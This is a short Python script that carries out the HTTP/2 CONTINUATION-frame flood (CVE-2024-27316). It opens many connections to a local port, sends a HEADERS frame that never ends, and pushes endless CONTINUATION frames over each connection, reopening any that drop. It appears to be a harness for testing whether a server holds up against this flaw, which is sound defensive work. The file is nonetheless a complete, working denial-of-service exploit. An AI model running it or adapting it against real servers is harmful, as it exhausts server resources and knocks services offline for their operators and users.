"""An attacker of HTTP/2: heads that go on in CONTINUATION frames and never end (CVE-2024-27316), from many connections.

    continuations.py PORT CONNECTIONS SECONDS

Each connection sends as fast as it is read from, and is made anew when it is cut; ends with 1 when none was ever made.
"""

import selectors
import socket
import sys
import time

from support.h2 import CONTINUATION, HEADERS, PREFACE, SETTINGS, frame, head, literal

OPENING = PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, head())
MORE = frame(CONTINUATION, 0, 1, literal(b"x-more", b"y" * 100)) * 50


def begin(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setblocking(False)
    sock.send(OPENING)
    return sock


def main():
    port, connections, seconds = (int(word) for word in sys.argv[1:])
    end, made = time.monotonic() + seconds, 0
    with selectors.DefaultSelector() as ready:
        while time.monotonic() < end:
            while len(ready.get_map()) < connections and time.monotonic() < end:
                try:
                    ready.register(begin(port), selectors.EVENT_WRITE)
                    made += 1
                except OSError:
                    break  # no room at the moment
            for key, _ in ready.select(0.1):
                try:
                    key.fileobj.send(MORE)
                except BlockingIOError:
                    pass
                except OSError:
                    ready.unregister(key.fileobj)
                    key.fileobj.close()
        for key in list(ready.get_map().values()):
            key.fileobj.close()
    print(f"{made} connections")
    sys.exit(0 if made else 1)


main()
